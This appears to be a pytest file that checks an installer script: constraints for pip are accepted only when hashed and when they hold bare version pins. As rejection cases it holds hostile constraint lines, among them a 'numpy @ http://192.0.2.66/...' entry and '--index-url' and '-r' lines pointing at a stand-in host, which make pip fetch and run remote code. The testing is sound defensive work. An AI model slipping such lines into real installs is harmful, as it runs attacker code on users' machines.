"""What the Linux install script gives to pip, by where it comes from."""

from __future__ import annotations

import hashlib
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from kits.installers.tree import LINUX

WHEEL = "swarmtrain-0.1.0-py3-none-any.whl"
CONTENT = b"the wheel"
EVIL = "numpy @ http://192.0.2.66/runs-at-installation.tar.gz\n"
PINS = "# measured together\nnumpy==2.3.5\n"

NO_CONSTRAINTS = ""


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


class Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        """A test prints nothing."""


@pytest.fixture
def source(tmp_path: Path) -> Path:
    folder = tmp_path / "source"
    folder.mkdir()
    (folder / WHEEL).write_bytes(CONTENT)
    return folder


@pytest.fixture
def url(source: Path) -> Iterator[str]:
    """The source over plain http."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(source)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/{WHEEL}"
    server.shutdown()
    server.server_close()


def constraints_for_pip(tmp_path: Path, wheel: str | Path, hash_by_hand: str = "") -> str:
    """Run the script's own `fetch` and return the constraints that pip would read."""
    if not (shutil.which("curl") or shutil.which("wget")):
        pytest.skip("needs curl or wget")
    functions = (LINUX / "install.sh").read_text().removesuffix('main "$@"\n')
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    code = functions + 'fetch >&2\ncat "$constraints"\n'
    values = {"from": wheel, "sha256": hash_by_hand, "scratch": scratch, "python": sys.executable}
    head = "".join(f"{name}='{value}'\n" for name, value in values.items())
    done = subprocess.run(["sh"], input=head + code, capture_output=True, text=True, timeout=60)
    if done.returncode:
        raise InstallRefused(done.stderr)
    return done.stdout


class InstallRefused(Exception):
    """The script ended with an error."""


def test_over_plain_http_nothing_that_is_not_hashed_reaches_pip(
    tmp_path: Path, source: Path, url: str
) -> None:
    """Whoever is on the way adds a constraints.txt, and pip runs the code that it names."""
    (source / "constraints.txt").write_text(EVIL)
    (source / "SHA256SUMS").write_text(f"{sha256(EVIL.encode())}  constraints.txt\n")
    assert constraints_for_pip(tmp_path, url, sha256(CONTENT)) == NO_CONSTRAINTS


def test_constraints_that_the_hashes_list_are_taken(tmp_path: Path, source: Path) -> None:
    (source / "constraints.txt").write_text(PINS)
    (source / "SHA256SUMS").write_text(
        f"{sha256(CONTENT)}  {WHEEL}\n{sha256(PINS.encode())} *constraints.txt\n"
    )
    for number, place in enumerate((source / WHEEL, (source / WHEEL).as_uri())):
        folder = tmp_path / str(number)
        folder.mkdir()
        assert constraints_for_pip(folder, place) == PINS


def test_constraints_that_were_changed_end_the_installation(tmp_path: Path, source: Path) -> None:
    (source / "constraints.txt").write_text(PINS + "torch==1.0\n")
    (source / "SHA256SUMS").write_text(
        f"{sha256(CONTENT)}  {WHEEL}\n{sha256(PINS.encode())}  constraints.txt\n"
    )
    with pytest.raises(InstallRefused, match=r"constraints\.txt is damaged"):
        constraints_for_pip(tmp_path, source / WHEEL)


def test_constraints_that_the_hashes_do_not_list_are_not_taken(
    tmp_path: Path, source: Path
) -> None:
    (source / "constraints.txt").write_text(EVIL)
    (source / "SHA256SUMS").write_text(f"{sha256(CONTENT)}  {WHEEL}\n")
    assert constraints_for_pip(tmp_path, source / WHEEL) == NO_CONSTRAINTS


@pytest.mark.parametrize(
    "line",
    [EVIL, "--index-url http://192.0.2.66/", "-r http://192.0.2.66/more.txt", "./local.tar.gz",
     "numpy==2.3.5 @ http://192.0.2.66/x.whl", "numpy==2.3.5 --hash=sha256:00"],
)  # fmt: skip
def test_constraints_hold_versions_and_nothing_else(
    line: str, tmp_path: Path, source: Path
) -> None:
    (source / "constraints.txt").write_text(PINS + line.rstrip() + "\n")
    with pytest.raises(InstallRefused, match="is no version"):
        constraints_for_pip(tmp_path, source / WHEEL)


def test_the_constraints_of_the_checkout_are_taken(tmp_path: Path, source: Path) -> None:
    checkout = LINUX.parents[1] / "constraints.txt"
    shutil.copy(checkout, source)
    assert constraints_for_pip(tmp_path, source / WHEEL) == checkout.read_text()
